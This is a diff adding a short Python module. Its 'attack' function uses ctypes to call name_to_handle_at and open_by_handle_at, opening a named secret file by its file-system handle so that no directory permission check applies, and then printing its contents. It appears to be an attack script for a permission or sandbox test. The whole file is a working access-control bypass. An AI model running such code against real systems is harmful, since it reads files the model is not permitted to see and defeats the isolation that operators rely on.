@@ -1,0 +1,17 @@
+"""Opens a file by the file system's own number for it, which asks no folder on the way."""
+
+import ctypes
+import os
+
+
+def attack(told: dict[str, str]) -> None:
+    libc = ctypes.CDLL(None, use_errno=True)
+    handle = (ctypes.c_uint32 * 34)(128)
+    mount = ctypes.c_int()
+    if libc.name_to_handle_at(-100, told["secret_file"].encode(), handle, ctypes.byref(mount), 0):
+        raise OSError(ctypes.get_errno(), "no handle")
+    near = os.open(told["folder"], os.O_RDONLY)
+    descriptor = libc.open_by_handle_at(near, handle, os.O_RDONLY)
+    if descriptor < 0:
+        raise OSError(ctypes.get_errno(), "not opened")
+    print(os.read(descriptor, 1000))
